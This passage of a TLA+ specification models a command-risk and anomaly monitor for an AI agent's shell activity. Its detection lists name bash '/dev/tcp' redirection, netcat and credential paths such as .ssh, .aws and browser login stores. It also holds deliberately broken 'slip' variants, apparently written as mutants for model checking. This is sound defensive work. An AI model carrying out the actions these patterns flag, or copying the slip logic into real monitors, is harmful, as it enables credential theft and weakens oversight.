       <<Cat(<<Lit("base64"), Plus(S), Lit("-d")>>),
         "Base64 decode - potential obfuscation">>,
       <<Cat(<<Lit("eval"), Star(S), Lit("(")>>),
         "Eval with expression - code execution">>,
       <<Lit("/dev/tcp/"), "Bash TCP redirection">>,
       <<Lit("/dev/udp/"), "Bash UDP redirection">> >>

\* s.strip()
RECURSIVE strip(_)
strip(s) ==
    IF s = "" THEN ""
    ELSE IF Ch(s, 1) \in SpaceChars THEN strip(SubSeq(s, 2, Len(s)))
    ELSE IF Ch(s, Len(s)) \in SpaceChars THEN strip(SubSeq(s, 1, Len(s) - 1))
    ELSE s

\* sep.join(items)
RECURSIVE join(_, _)
join(sep, items) ==
    IF Len(items) = 0 THEN ""
    ELSE IF Len(items) = 1 THEN items[1]
    ELSE items[1] \o sep \o join(sep, Tail(items))

\* the members of seq that satisfy keep, in order
RECURSIVE SelectIdx(_, _, _)
SelectIdx(n, len, keep) ==
    IF n > len THEN <<>>
    ELSE (IF keep[n] THEN <<n>> ELSE <<>>) \o SelectIdx(n + 1, len, keep)

\* the risk level of a command outside the safe list
\* a slip: the level only counts the risk factors
risk_level_counts_factors(risk_factors, capabilities) ==
    IF \E i \in 1..Len(risk_factors) :
          \/ Contains(lower(risk_factors[i]), "shell")
          \/ Contains(lower(risk_factors[i]), "fork bomb")
          \/ Contains(lower(risk_factors[i]), "root")
    THEN "high"
    ELSE IF Len(risk_factors) >= 2 THEN "medium"
    ELSE IF Len(risk_factors) > 0 \/ Len(capabilities) > 0 THEN "low"
    ELSE "minimal"

risk_level_of(risk_factors, capabilities) ==
    IF \E i \in 1..Len(risk_factors) :
          \/ Contains(lower(risk_factors[i]), "shell")
          \/ Contains(lower(risk_factors[i]), "fork bomb")
          \/ Contains(lower(risk_factors[i]), "root")
    THEN "high"
    ELSE IF Len(risk_factors) >= 2
            \/ \E i \in 1..Len(risk_factors) :
                  Contains(risk_factors[i], "System modification")
    THEN "medium"
    ELSE IF Len(risk_factors) > 0 THEN "low"
    ELSE IF Len(capabilities) > 0 THEN "low"
    ELSE "minimal"

analyze_command_risk(command) ==
    LET command_lower == strip(lower(command))
        base_cmd == first_token(command_lower)
        net == InTable(network_commands, base_cmd)
        sys == InTable(system_commands, base_cmd)
        exe == InTable(exec_commands, base_cmd)
        capabilities ==
            (IF net THEN <<"Network: " \o Row(network_commands, base_cmd)[2]
                            \o " - " \o Row(network_commands, base_cmd)[3]>> ELSE <<>>)
            \o (IF sys THEN <<"System: " \o Row(system_commands, base_cmd)[2]
                            \o " - " \o Row(system_commands, base_cmd)[3]>> ELSE <<>>)
            \o (IF exe THEN <<"Execution: " \o Row(exec_commands, base_cmd)[2]
                            \o " - " \o Row(exec_commands, base_cmd)[3]>> ELSE <<>>)
        found == [i \in 1..Len(dangerous_patterns) |->
                    search(dangerous_patterns[i][1], command_lower)]
        dangers == SelectIdx(1, Len(dangerous_patterns), found)
        risk_factors ==
            (IF net THEN <<"Network capability">> ELSE <<>>)
            \o (IF sys THEN <<"System modification capability">> ELSE <<>>)
            \o [i \in 1..Len(dangers) |-> dangerous_patterns[dangers[i]][2]]
    IN IF InTable(safe_commands, base_cmd)
       THEN [risk_level |-> "minimal",
             risk_factors |-> <<>>,
             capabilities |-> <<"Safe: " \o Row(safe_commands, base_cmd)[2]>>,
             summary |-> Row(safe_commands, base_cmd)[2],
             base_command |-> base_cmd]
       ELSE [risk_level |-> risk_level_of(risk_factors, capabilities),
             risk_factors |-> risk_factors,
             capabilities |-> capabilities,
             summary |->
                 IF Len(capabilities) = 0 /\ Len(risk_factors) = 0
                 THEN "Command '" \o base_cmd \o "' - no specific risk indicators found"
                 ELSE IF Len(capabilities) > 0 /\ Len(risk_factors) = 0
                 THEN capabilities[1]
                 ELSE "Risk factors: " \o join(", ", Prefix(risk_factors, 3)),
             base_command |-> base_cmd]

risk_analysis_of == [c \in Commands |-> analyze_command_risk(c)]

(***************************************************************************)
(* Session transcripts (the .jsonl file analyze_context reads).            *)
(***************************************************************************)
\* lines read from the end of the file, characters kept of a message and of
\* a text part, messages returned, and messages searched for a request
ReadLastLines == 50
ContentMax == 500
TextPartMax == 200
ContextReturned == 10
RecentMessages == 20
\* distinct shared words a request needs
MinOverlap == 2

\* a line that is not JSON
BadLine == [json |-> FALSE]
Entry(type, role, content) ==
    [json |-> TRUE, type |-> type, role |-> role, content |-> content]
\* 'content' as a string, or as a list of typed parts
Text(s) == [kind |-> "str", v |-> s]
Parts(ps) == [kind |-> "list", v |-> ps]
Part(type, text) == [type |-> type, text |-> text]

SessionFile(path, exists, lines) == [path |-> path, exists |-> exists, lines |-> lines]

MissingFile == SessionFile("nonexistent.jsonl", FALSE, <<>>)
\* tests/conftest.py mock_session_file
RequestFile ==
    SessionFile("session.jsonl", TRUE,
        << Entry("message", "user", Text("Please run npm install")),
           Entry("message", "assistant", Text("I'll run npm install for you.")),
           Entry("message", "user", Text("Now build the project")),
           Entry("message", "assistant", Text("Running npm run build...")) >>)
\* a transcript in which the user asks for nothing
ChatFile ==
    SessionFile("chat.jsonl", TRUE,
        << BadLine,
           Entry("session", "", Text("")),
           Entry("message", "user",
                 Parts(<<Part("text", "What does this repository do?"),
                         Part("image", "")>>)),
           Entry("message", "assistant", Text("Please run npm install to find out.")) >>)
SessionFiles == {MissingFile, RequestFile, ChatFile}

\* the messages one line contributes
messages_of_line(line) ==
    IF ~line.json THEN <<>>
    ELSE IF line.type # "message" THEN <<>>
    ELSE IF line.content.kind = "str"
         THEN <<[role |-> line.role, content |-> Prefix(line.content.v, ContentMax)]>>
    ELSE IF line.content.kind = "list"
         THEN LET ps == line.content.v
                  keep == [i \in 1..Len(ps) |-> ps[i].type = "text"]
                  idx == SelectIdx(1, Len(ps), keep)
                  texts == [i \in 1..Len(idx) |-> Prefix(ps[idx[i]].text, TextPartMax)]
              IN <<[role |-> line.role, content |-> Prefix(join(" ", texts), ContentMax)]>>
    ELSE <<>>

RECURSIVE messages_of(_)
messages_of(lines) ==
    IF Len(lines) = 0 THEN <<>>
    ELSE messages_of_line(Head(lines)) \o messages_of(Tail(lines))

request_patterns ==
    << Cat(<<Lit("run"), S>>), Cat(<<Lit("execute"), S>>), Cat(<<Lit("install"), S>>),
       Cat(<<Lit("setup"), S>>), Cat(<<Lit("create"), S>>), Cat(<<Lit("build"), S>>),
       Cat(<<Lit("start"), S>>), Cat(<<Lit("download"), S>>), Cat(<<Lit("please"), S>>),
       Cat(<<Lit("can you"), S>>), Cat(<<Lit("could you"), S>>),
       Cat(<<Lit("would you"), S>>) >>

ToolNames == {"curl", "wget", "npm", "pip", "git"}

_check_user_request(messages, command) ==
    LET command_lower == lower(command)
        command_terms == terms(command_lower)
        recent == LastN(messages, RecentMessages)
    IN \E i \in 1..Len(recent) :
          /\ recent[i].role = "user"
          /\ LET content == lower(recent[i].content)
                 has_request == \E p \in 1..Len(request_patterns) :
                                    search(request_patterns[p], content)
                 overlap == command_terms \cap terms(content)
             IN \/ has_request /\ Cardinality(overlap) >= MinOverlap
                \/ /\ \E term \in ToolNames : Contains(content, term)
                   /\ \E term \in ToolNames : Contains(command_lower, term)

analyze_context(session_file, command) ==
    IF ~session_file.exists
    THEN [trust_level |-> UNVERIFIED, user_requested |-> FALSE,
          context_messages |-> <<>>, reasoning |-> "Session file not found"]
    ELSE LET messages == messages_of(LastN(session_file.lines, ReadLastLines))
             user_requested == _check_user_request(messages, command)
         IN [trust_level |-> IF user_requested THEN VERIFIED ELSE UNVERIFIED,
             user_requested |-> user_requested,
             context_messages |-> LastN(messages, ContextReturned),
             reasoning |-> IF user_requested
                           THEN "User message found requesting this action"
                           ELSE "No clear user request found for this action"]

context_of == [f \in SessionFiles |-> [c \in Commands |-> analyze_context(f, c)]]

(***************************************************************************)
(* TrustEngine                                                             *)
(***************************************************************************)
\* a slip: only ids that are in the set themselves are trusted
is_trusted_session_exact(session_id) == session_id \in trusted_sessions

is_trusted_session(session_id) ==
    \E trusted \in trusted_sessions :
        \/ startswith(session_id, Prefix(trusted, PrefixLen))
        \/ startswith(trusted, Prefix(session_id, PrefixLen))

Verdict(trust_level, is_trusted, user_requested, threat_match, recommendation, risk) ==
    [trust_level |-> trust_level,
     is_trusted_session |-> is_trusted,
     user_requested |-> user_requested,
     threat_match |-> threat_match,
     recommendation |-> recommendation,
     risk_analysis |-> risk]

\* the branch taken when the threat intel matches
threat_verdict(is_trusted, threat_match, risk) ==
    Verdict(MALICIOUS, is_trusted, FALSE, threat_match,
            "BLOCK: Matches threat intel - " \o threat_match.reason, risk)

\* a slip: the wrong rows of the table for a trusted session
context_verdict_swapped(is_trusted, user_requested, risk) ==
    IF is_trusted /\ user_requested
    THEN Verdict(VERIFIED, is_trusted, user_requested, None,
                 "ALLOW with logging: Trusted session, action not explicitly requested", risk)
    ELSE IF is_trusted
    THEN Verdict(TRUSTED, is_trusted, user_requested, None,
                 "ALLOW: Trusted session, user requested", risk)
    ELSE IF user_requested
    THEN Verdict(VERIFIED, is_trusted, user_requested, None,
                 "ALLOW: User requested this action", risk)
    ELSE Verdict(SUSPICIOUS, is_trusted, user_requested, None,
                 "REVIEW: No trusted session or user request", risk)

\* the branch taken with a session file and no threat
context_verdict(is_trusted, user_requested, risk) ==
    IF is_trusted /\ user_requested
    THEN Verdict(TRUSTED, is_trusted, user_requested, None,
                 "ALLOW: Trusted session, user requested", risk)
    ELSE IF is_trusted
    THEN Verdict(VERIFIED, is_trusted, user_requested, None,
                 "ALLOW with logging: Trusted session, action not explicitly requested", risk)
    ELSE IF user_requested
    THEN Verdict(VERIFIED, is_trusted, user_requested, None,
                 "ALLOW: User requested this action", risk)
    ELSE Verdict(SUSPICIOUS, is_trusted, user_requested, None,
                 "REVIEW: No trusted session or user request", risk)

\* a slip: a trusted session id lifts the verdict when there is no context
risk_verdict_trusts_session(is_trusted, risk) ==
    IF is_trusted
    THEN Verdict(TRUSTED, is_trusted, FALSE, None, "SAFE: " \o risk.summary, risk)
    ELSE IF risk.risk_level = "high"
    THEN Verdict(SUSPICIOUS, is_trusted, FALSE, None, "REVIEW: " \o risk.summary, risk)
    ELSE IF risk.risk_level = "medium"
    THEN Verdict(UNVERIFIED, is_trusted, FALSE, None, "CAUTION: " \o risk.summary, risk)
    ELSE IF risk.risk_level = "low"
    THEN Verdict(VERIFIED, is_trusted, FALSE, None, "LIKELY SAFE: " \o risk.summary, risk)
    ELSE Verdict(TRUSTED, is_trusted, FALSE, None, "SAFE: " \o risk.summary, risk)

\* the branch taken with no session file and no threat
risk_verdict(is_trusted, risk) ==
    IF risk.risk_level = "high"
    THEN Verdict(SUSPICIOUS, is_trusted, FALSE, None, "REVIEW: " \o risk.summary, risk)
    ELSE IF risk.risk_level = "medium"
    THEN Verdict(UNVERIFIED, is_trusted, FALSE, None, "CAUTION: " \o risk.summary, risk)
    ELSE IF risk.risk_level = "low"
    THEN Verdict(VERIFIED, is_trusted, FALSE, None, "LIKELY SAFE: " \o risk.summary, risk)
    ELSE IF risk.risk_level = "minimal"
    THEN Verdict(TRUSTED, is_trusted, FALSE, None, "SAFE: " \o risk.summary, risk)
    ELSE Verdict(UNVERIFIED, is_trusted, FALSE, None, "UNKNOWN: " \o risk.summary, risk)

\* a slip: a trusted session is evaluated before the threat intel is consulted
evaluate_command_trusted_first(command, session_id, session_file) ==
    LET is_trusted == IF session_id # "" THEN is_trusted_session(session_id) ELSE FALSE
        risk == risk_analysis_of[command]
        threat_match == check_threat_intel(command)
    IN IF threat_match # None /\ ~is_trusted
       THEN threat_verdict(is_trusted, threat_match, risk)
       ELSE IF session_file # None
       THEN context_verdict(is_trusted, context_of[session_file][command].user_requested, risk)
       ELSE risk_verdict(is_trusted, risk)

\* session_id "" stands for an id that is not given: `if session_id:` treats
\* None and '' alike; session_file is None when no transcript is given
evaluate_command(command, session_id, session_file) ==
    LET is_trusted == IF session_id # "" THEN is_trusted_session(session_id) ELSE FALSE
        risk == risk_analysis_of[command]
        threat_match == check_threat_intel(command)
    IN IF threat_match # None
       THEN threat_verdict(is_trusted, threat_match, risk)
       ELSE IF session_file # None
       THEN context_verdict(is_trusted, context_of[session_file][command].user_requested, risk)
       ELSE risk_verdict(is_trusted, risk)

TrustCall(op, command, session_id, session_file, result) ==
    [op |-> op, command |-> command, session_id |-> session_id,
     session_file |-> session_file, result |-> result]

\* TrustEngine(config_dir): _load_data
ConstructEngine ==
    /\ trusted_sessions' =
         (IF sessionsFile # None
          THEN {sessionsFile.sessions[i] : i \in 1..Len(sessionsFile.sessions)}
          ELSE {})
    /\ threat_intel' = (IF threatFile # None THEN threatFile ELSE no_threat_intel)
    /\ session_baseline' = (IF behavioralFile # None THEN behavioralFile ELSE EmptyDict)
    /\ tret' = TrustCall("__init__", "", "", None, None)
    /\ UNCHANGED <<sessionsFile, threatFile, behavioralFile>>

\* list(a_set): its members, each once, in an order the set decides
list_of(set) ==
    {seq \in [1..Cardinality(set) -> set] : \A i, j \in DOMAIN seq : seq[i] = seq[j] => i = j}

\* the file _save_trusted_sessions may write for the set sessions
_save_trusted_sessions(sessions) == {[sessions |-> seq] : seq \in list_of(sessions)}

\* a slip: the id is appended to the persisted list, present or not
trust_session_appends(session_id) ==
    /\ Cardinality(trusted_sessions \cup {session_id}) <= MaxTrusted
    /\ trusted_sessions' = trusted_sessions \cup {session_id}
    /\ sessionsFile' =
         [sessions |-> Append(IF sessionsFile = None THEN <<>> ELSE sessionsFile.sessions,
                              session_id)]
    /\ tret' = TrustCall("trust_session", "", session_id, None,
                         [found |-> trusted_sessions])
    /\ UNCHANGED <<threat_intel, threatFile, session_baseline, behavioralFile>>

\* trust_session(session_id); the call record keeps the set the call found
trust_session(session_id) ==
    /\ Cardinality(trusted_sessions \cup {session_id}) <= MaxTrusted
    /\ trusted_sessions' = trusted_sessions \cup {session_id}
    /\ sessionsFile' \in _save_trusted_sessions(trusted_sessions')
    /\ tret' = TrustCall("trust_session", "", session_id, None,
                         [found |-> trusted_sessions])
    /\ UNCHANGED <<threat_intel, threatFile, session_baseline, behavioralFile>>

\* a slip: the id is discarded and the list is not saved
untrust_session_unsaved(session_id) ==
    /\ trusted_sessions' = trusted_sessions \ {session_id}
    /\ tret' = TrustCall("untrust_session", "", session_id, None, None)
    /\ UNCHANGED <<sessionsFile, threat_intel, threatFile, session_baseline,
                   behavioralFile>>

untrust_session(session_id) ==
    /\ trusted_sessions' = trusted_sessions \ {session_id}
    /\ sessionsFile' \in _save_trusted_sessions(trusted_sessions')
    /\ tret' = TrustCall("untrust_session", "", session_id, None, None)
    /\ UNCHANGED <<threat_intel, threatFile, session_baseline, behavioralFile>>

IsTrustedSession(session_id) ==
    /\ tret' = TrustCall("is_trusted_session", "", session_id, None,
                         [ret |-> is_trusted_session(session_id)])
    /\ UNCHANGED <<trusted_sessions, sessionsFile, threat_intel, threatFile,
                   session_baseline, behavioralFile>>

EvaluateCommand(command, session_id, session_file) ==
    /\ tret' = TrustCall("evaluate_command", command, session_id, session_file,
                         evaluate_command(command, session_id, session_file))
    /\ UNCHANGED <<trusted_sessions, sessionsFile, threat_intel, threatFile,
                   session_baseline, behavioralFile>>

add_threat_pattern(pattern, reason, severity) ==
    LET entry == [pattern |-> pattern, reason |-> reason, severity |-> severity]
        at == {i \in 1..Len(threat_intel.patterns) : threat_intel.patterns[i].pattern = pattern}
    IN /\ threat_intel' =
            [threat_intel EXCEPT !.patterns =
                IF at = {} THEN Append(@, entry) ELSE [@ EXCEPT ![Least(at)] = entry]]
       /\ threatFile' = threat_intel'
       /\ tret' = TrustCall("add_threat_pattern", pattern, "", None, None)
       /\ UNCHANGED <<trusted_sessions, sessionsFile, session_baseline, behavioralFile>>

block_ip(ip) ==
    /\ IF \E i \in 1..Len(threat_intel.blocked_ips) : threat_intel.blocked_ips[i] = ip
       THEN UNCHANGED <<threat_intel, threatFile, session_baseline, behavioralFile>>
       ELSE /\ threat_intel' = [threat_intel EXCEPT !.blocked_ips = Append(@, ip)]
            /\ threatFile' = threat_intel'
    /\ tret' = TrustCall("block_ip", ip, "", None, None)
    /\ UNCHANGED <<trusted_sessions, sessionsFile, session_baseline, behavioralFile>>

block_domain(domain) ==
    /\ IF \E i \in 1..Len(threat_intel.blocked_domains) :
             threat_intel.blocked_domains[i] = domain
       THEN UNCHANGED <<threat_intel, threatFile, session_baseline, behavioralFile>>
       ELSE /\ threat_intel' = [threat_intel EXCEPT !.blocked_domains = Append(@, domain)]
            /\ threatFile' = threat_intel'
    /\ tret' = TrustCall("block_domain", domain, "", None, None)
    /\ UNCHANGED <<trusted_sessions, sessionsFile, session_baseline, behavioralFile>>

\* check_anomaly needs this many actions of a session; the baseline is saved
\* every SaveEvery actions of a session
MinActions == 50
SaveEvery == 100

\* the record update_baseline opens for a session it has not seen
new_session ==
    [common_commands |-> EmptyDict, common_paths |-> EmptyDict,
     common_hosts |-> EmptyDict, activity_hours |-> [h \in 1..HoursPerDay |-> 0],
     total_actions |-> 0]

\* self.baseline[session_id] = b
put(d, session_id, b) ==
    [x \in DOMAIN d \cup {session_id} |-> IF x = session_id THEN b ELSE d[x]]

\* update_baseline(session_id, activity); ' '.split()[0] raises after the
\* action was counted
update_baseline(session_id, activity) ==
    LET b0 == IF session_id \in DOMAIN session_baseline
              THEN session_baseline[session_id] ELSE new_session
        b1 == [b0 EXCEPT !.total_actions = @ + 1]
        cmd == dict_get(activity, "command", "")
        blank == cmd # "" /\ first_token(cmd) = ""
        cmd_base == IF cmd # "" THEN first_token(cmd) ELSE ""
        b2 == IF cmd_base # ""
              THEN [b1 EXCEPT !.common_commands = Incr(@, cmd_base)] ELSE b1
        path == dict_get(activity, "path", "")
        b3 == IF path # ""
              THEN [b2 EXCEPT !.common_paths = Incr(@, parent(path))] ELSE b2
        host == dict_get(activity, "host", "")
        b4 == IF host # "" THEN [b3 EXCEPT !.common_hosts = Incr(@, host)] ELSE b3
        b5 == [b4 EXCEPT !.activity_hours[hour_of(now) + 1] = @ + 1]
    IN /\ session_baseline' = put(session_baseline, session_id, IF blank THEN b1 ELSE b5)
       /\ behavioralFile' =
            IF ~blank /\ b5.total_actions % SaveEvery = 0
            THEN session_baseline' ELSE behavioralFile
       /\ tret' = TrustCall("update_baseline", "", session_id, None,
                            [activity |-> activity,
                             exc |-> IF blank THEN "IndexError" ELSE None])
       /\ UNCHANGED <<trusted_sessions, sessionsFile, threat_intel, threatFile>>

\* a slip: the check starts one action early
too_few_actions_one_early(total_actions) == total_actions < MinActions - 1

\* b['total_actions'] < 50
too_few_actions(total_actions) == total_actions < MinActions

\* what check_anomaly(session_id, activity) returns
session_anomaly(session_id, activity) ==
    IF session_id \notin DOMAIN session_baseline THEN None
    ELSE LET b == session_baseline[session_id]
             cmd == dict_get(activity, "command", "")
             cmd_base == IF cmd # "" THEN first_token(cmd) ELSE ""
             path == dict_get(activity, "path", "")
             host == dict_get(activity, "host", "")
             hour == hour_of(now)
             anomalies ==
                (IF cmd_base # "" /\ cmd_base \notin DOMAIN b.common_commands
                 THEN <<"Unusual command: " \o cmd_base>> ELSE <<>>)
                \o (IF path # "" /\ parent(path) \notin DOMAIN b.common_paths
                    THEN <<"Unusual path: " \o parent(path)>> ELSE <<>>)
                \o (IF host # "" /\ host \notin DOMAIN b.common_hosts
                    THEN <<"Unusual host: " \o host>> ELSE <<>>)
                \o (IF b.activity_hours[hour + 1] = 0
                    THEN <<"Unusual activity hour: " \o IntToStr(hour) \o ":00">>
                    ELSE <<>>)
         IN IF too_few_actions(b.total_actions) THEN None
            ELSE IF cmd # "" /\ first_token(cmd) = "" THEN [exc |-> "IndexError"]
            ELSE IF anomalies # <<>>
                 THEN [anomalies |-> anomalies, baseline_actions |-> b.total_actions]
                 ELSE None

\* check_anomaly(session_id, activity)
CheckAnomaly(session_id, activity) ==
    /\ tret' = TrustCall("check_anomaly", "", session_id, None,
                         [activity |-> activity,
                          ret |-> session_anomaly(session_id, activity)])
    /\ UNCHANGED <<trusted_sessions, sessionsFile, threat_intel, threatFile,
                   session_baseline, behavioralFile>>

InitTrust ==
    /\ trusted_sessions = {}
    /\ sessionsFile = None
    /\ threat_intel = no_threat_intel
    /\ threatFile = None
    /\ session_baseline = EmptyDict
    /\ behavioralFile = None
    /\ tret = TrustCall("__init__", "", "", None, None)

(***************************************************************************)
(* baseline.py                                                             *)
(*                                                                         *)
(* Time is counted in minutes since midnight of the day the process        *)
(* started; an isoformat() timestamp is modelled by that minute.  A dict   *)
(* with str keys is a function on a finite set of strings.                 *)
(***************************************************************************)
MinWindows == 24
MaxWindows == 168
SimilarMin == 3
LastWindows == 24
ZeroMeanThreshold == 10
RateFactor == 3
RateFloor == 5
ManyAnomalies == 1

\* the total of a list of counts
RECURSIVE Sum(_)
Sum(seq) == IF seq = <<>> THEN 0 ELSE seq[1] + Sum(Tail(seq))

\* f"{total / n:.0f}": the quotient rounded to the nearest integer, ties to even
round_half_even(total, n) ==
    LET q == total \div n
        r == total % n
    IN IF 2 * r < n THEN q
       ELSE IF 2 * r > n THEN q + 1
       ELSE IF q % 2 = 0 THEN q ELSE q + 1

_default_baseline == [windows |-> <<>>, learned |-> FALSE, min_windows |-> MinWindows]

\* json.dumps(self.baseline, indent=2, default=str) and json.loads of it: the
\* baseline holds str-keyed dicts, lists, ints, a bool and minute stamps, which
\* JSON writes and reads back as they are; the document names what it holds
baseline_dumps(b) == [j |-> "object", windows |-> b.windows,
                      learned |-> b.learned, min_windows |-> b.min_windows]
baseline_loads(doc) == [windows |-> doc.windows, learned |-> doc.learned,
                        min_windows |-> doc.min_windows]

\* what _load_baseline returns for the two files on disk when encryption is
\* enabled or not and holds key
load_baseline_with(enabled, key, plain, enc) ==
    LET fromPlain == IF plain # None THEN baseline_loads(plain) ELSE _default_baseline
    IN IF enabled /\ enc # None
       THEN IF key # None
            THEN LET data == decrypt_bytes(key, b64decode(enc))
                 IN IF data # None THEN baseline_loads(data) ELSE fromPlain
            ELSE _default_baseline
       ELSE fromPlain

\* what _load_baseline returns for the two files on disk
_load_baseline(plain, enc) == load_baseline_with(is_enabled, derived_key, plain, enc)

\* _save_baseline of b when encryption is enabled or not and holds key: the
\* encrypted file when it is enabled and unlocked (and then the plain file is
\* removed), the plain file otherwise, also when encrypt() raised
save_baseline_with(enabled, key, b) ==
    IF enabled /\ key # None
    THEN \E nonce \in Nonces :
            LET raw == encrypt_raw(key, baseline_dumps(b), nonce)
            IN IF raw.ok
               THEN baselineEncFile' = b64encode(raw.v) /\ baselineFile' = None
               ELSE baselineFile' = baseline_dumps(b) /\ UNCHANGED baselineEncFile
    ELSE baselineFile' = baseline_dumps(b) /\ UNCHANGED baselineEncFile

_save_baseline(b) == save_baseline_with(is_enabled, derived_key, b)

BaselineCall(op, activity_type, details, result) ==
    [op |-> op, activity_type |-> activity_type, details |-> details, result |-> result]

\* BehaviorBaseline()
ConstructBaseline ==
    /\ baseline' = _load_baseline(baselineFile, baselineEncFile)
    /\ current_window' = EmptyDict
    /\ window_start' = now
    /\ bret' = BaselineCall("__init__", "", EmptyDict, None)
    /\ UNCHANGED <<now, baselineFile, baselineEncFile>>

\* the snapshot _rotate_window appends
window_data ==
    [timestamp |-> window_start,
     hour |-> hour_of(window_start),
     counts |-> dict_get(current_window, "counts", EmptyDict),
     commands |-> dict_get(current_window, "commands", EmptyDict),
     directories |-> dict_get(current_window, "directories", EmptyDict),
     network |-> dict_get(current_window, "network", EmptyDict)]

\* a slip: the history is cut to its oldest windows
trim_keeps_oldest(windows) ==
    IF Len(windows) > MaxWindows THEN SubSeq(windows, 1, MaxWindows) ELSE windows

\* windows[-168:] once there are more than 168
trim(windows) ==
    IF Len(windows) > MaxWindows THEN LastN(windows, MaxWindows) ELSE windows

\* a slip: learned is set one window early
learned_after_one_early(b, windows) ==
    IF Len(windows) >= b.min_windows - 1 THEN TRUE ELSE b.learned

\* the learned flag after a rotation left the history at windows
learned_after(b, windows) ==
    IF Len(windows) >= b.min_windows THEN TRUE ELSE b.learned

\* the baseline _rotate_window leaves when the current window is not empty
rotated ==
    LET windows == trim(Append(baseline.windows, window_data))
    IN [baseline EXCEPT !.windows = windows, !.learned = learned_after(baseline, windows)]

\* record_activity(activity_type, details)
record_activity(activity_type, details) ==
    LET due == now - window_start > MinutesPerHour
        rotates == due /\ current_window # EmptyDict
        cw0 == IF due THEN EmptyDict ELSE current_window
        cw1 == [c \in DOMAIN cw0 \cup {"counts"} |->
                  IF c = "counts"
                  THEN Incr(dict_get(cw0, "counts", EmptyDict), activity_type)
                  ELSE cw0[c]]
        track(name, key) ==
            [c \in DOMAIN cw1 \cup {name} |->
                IF c = name THEN Incr(dict_get(cw1, name, EmptyDict), key) ELSE cw1[c]]
        command == dict_get(details, "command", "")
        path == dict_get(details, "path", "")
        blank == activity_type = "EXEC" /\ command # "" /\ first_token(command) = ""
    IN /\ IF rotates
          THEN baseline' = rotated /\ _save_baseline(rotated)
          ELSE UNCHANGED <<baseline, baselineFile, baselineEncFile>>
       /\ window_start' = IF due THEN now ELSE window_start
       /\ current_window' =
            IF activity_type = "EXEC"
            THEN IF blank THEN cw1   \* ''.split()[0] raises after the count
                 ELSE track("commands",
                            IF command # "" THEN first_token(command) ELSE "unknown")
            ELSE IF activity_type \in {"READ", "WRITE", "EDIT"}
            THEN track("directories", IF path # "" THEN parent(path) ELSE "unknown")
            ELSE IF activity_type = "NETWORK"
            THEN track("network", dict_get(details, "remote", "unknown"))
            ELSE cw1
       /\ bret' = BaselineCall("record_activity", activity_type, details,
                               IF blank THEN [exc |-> "IndexError"] ELSE None)
       /\ UNCHANGED now

\* the windows check_anomaly compares with
similar_windows ==
    LET same == SelectSeq(baseline.windows, LAMBDA w : w.hour = hour_of(now))
    IN IF Len(same) < SimilarMin THEN LastN(baseline.windows, LastWindows) ELSE same

\* the counts of activity_type in the windows
historical(activity_type, windows) ==
    [i \in 1..Len(windows) |-> dict_get(windows[i].counts, activity_type, 0)]

\* _check_rate_anomaly reads the current window (and so creates its counts)
reads_current_window(activity_type, windows) ==
    \E i \in 1..Len(windows) : historical(activity_type, windows)[i] # 0

\* current_count > mean * 3 and current_count > 5, with mean = total / n
rate_exceeded(current_count, total, n) ==
    current_count * n > total * RateFactor /\ current_count > RateFloor

_check_rate_anomaly(activity_type, windows) ==
    IF ~reads_current_window(activity_type, windows) THEN None
    ELSE LET hist == historical(activity_type, windows)
             current_count ==
                 dict_get(dict_get(current_window, "counts", EmptyDict), activity_type, 0)
             total == Sum(hist)
             n == Len(hist)
         IN IF total = 0
            THEN IF current_count > ZeroMeanThreshold
                 THEN [kind |-> "rate",
                       text |-> "Unusual " \o activity_type \o " activity: "
                                \o IntToStr(current_count) \o " ops (normally none)"]
                 ELSE None
            ELSE IF rate_exceeded(current_count, total, n)
                 THEN [kind |-> "rate",
                       text |-> "High " \o activity_type \o " rate: "
                                \o IntToStr(current_count) \o " ops (normal: ~"
                                \o IntToStr(round_half_even(total, n)) \o ")"]
                 ELSE None

\* the keys of the windows' dicts called field
known(field, windows) ==
    UNION {DOMAIN windows[i][field] : i \in 1..Len(windows)}

sensitive_commands ==
    {"curl", "wget", "nc", "ncat", "netcat", "ssh", "scp",
     "base64", "xxd", "dd", "tar", "zip", "gpg",
     "chmod", "chown", "sudo", "su", "passwd",
     "crontab", "systemctl", "launchctl"}

_check_command_anomaly(details, windows) ==
    LET command == dict_get(details, "command", "")
        cmd == first_token(command)
    IN IF command = "" THEN None
       ELSE IF cmd = "" THEN [exc |-> "IndexError"]
       ELSE IF cmd \in sensitive_commands /\ cmd \notin known("commands", windows)
            THEN [kind |-> "command", text |-> "First-time sensitive command: " \o cmd]
            ELSE None

sensitive_patterns ==
    {".ssh", ".aws", ".gnupg", ".config/gcloud",
     "Cookies", "Login Data", "Keychain",
     "/etc/passwd", "/etc/shadow", "/etc/sudoers"}

_check_directory_anomaly(details, windows) ==
    LET path == dict_get(details, "path", "")
    IN IF path = "" THEN None
       ELSE IF /\ \E pattern \in sensitive_patterns : Contains(path, pattern)
               /\ parent(path) \notin known("directories", windows)
            THEN [kind |-> "directory",
                  text |-> "First-time access to sensitive path: " \o path]
            ELSE None

local_ranges == {"127.0.0.1", "::1", "192.168.", "10.0.", "172.16."}

_check_network_anomaly(details, windows) ==
    LET remote == dict_get(details, "remote", "")
    IN IF remote = "" \/ remote = "-" THEN None
       ELSE IF /\ remote \notin known("network", windows)
               /\ ~\E x \in local_ranges : Contains(remote, x)
            THEN [kind |-> "network", text |-> "New network destination: " \o remote]
            ELSE None

\* the anomalies check_anomaly collects, in order
anomalies_of(activity_type, details) ==
    LET windows == similar_windows
        keep(a) == IF a = None THEN <<>> ELSE <<a>>
    IN keep(_check_rate_anomaly(activity_type, windows))
       \o (IF activity_type = "EXEC"
           THEN keep(_check_command_anomaly(details, windows)) ELSE <<>>)
       \o (IF activity_type \in {"READ", "WRITE", "EDIT"}
           THEN keep(_check_directory_anomaly(details, windows)) ELSE <<>>)
       \o (IF activity_type = "NETWORK"
           THEN keep(_check_network_anomaly(details, windows)) ELSE <<>>)

\* a slip: check_anomaly without its "not learned yet" guard
check_result_unguarded(activity_type, details) ==
    LET anomalies == anomalies_of(activity_type, details)
    IN IF \E i \in 1..Len(anomalies) : "exc" \in DOMAIN anomalies[i]
       THEN [exc |-> "IndexError"]
       ELSE IF anomalies # <<>>
            THEN [is_anomaly |-> TRUE,
                  reasons |-> [i \in 1..Len(anomalies) |-> anomalies[i].text],
                  severity |-> IF Len(anomalies) > ManyAnomalies THEN "high" ELSE "medium"]
            ELSE None

\* what check_anomaly returns
check_result(activity_type, details) ==
    IF ~baseline.learned THEN None
    ELSE check_result_unguarded(activity_type, details)

\* check_anomaly(activity_type, details)
check_anomaly(activity_type, details) ==
